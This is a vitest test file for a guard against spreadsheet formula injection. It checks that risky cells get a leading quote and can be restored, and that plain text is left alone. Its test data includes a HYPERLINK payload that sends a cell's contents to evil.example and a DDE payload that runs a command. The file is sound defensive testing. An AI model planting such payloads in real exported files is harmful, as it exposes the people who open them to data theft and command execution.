import { describe, expect, it } from 'vitest';
import { asSpreadsheetText, withoutSpreadsheetGuard } from './spreadsheet-formulas';

describe('spreadsheet formulas', () => {
  it('guards every cell a spreadsheet would run, and gives it back as saved', () => {
    for (const cell of [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "=cmd|' /C calc'!A0",
      '+SUM(1+1)',
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
    ]) {
      expect(asSpreadsheetText(cell)).toBe(`'${cell}`);
      expect(withoutSpreadsheetGuard(asSpreadsheetText(cell))).toBe(cell);
    }
  });

  it('leaves plain text, lists and signatures as typed', () => {
    for (const cell of ['Deep work', '- buy milk', '-- Seneca', '— Seneca', "'quoted' word", 'a = b', '']) {
      expect(asSpreadsheetText(cell)).toBe(cell);
      expect(withoutSpreadsheetGuard(cell)).toBe(cell);
    }
  });
});
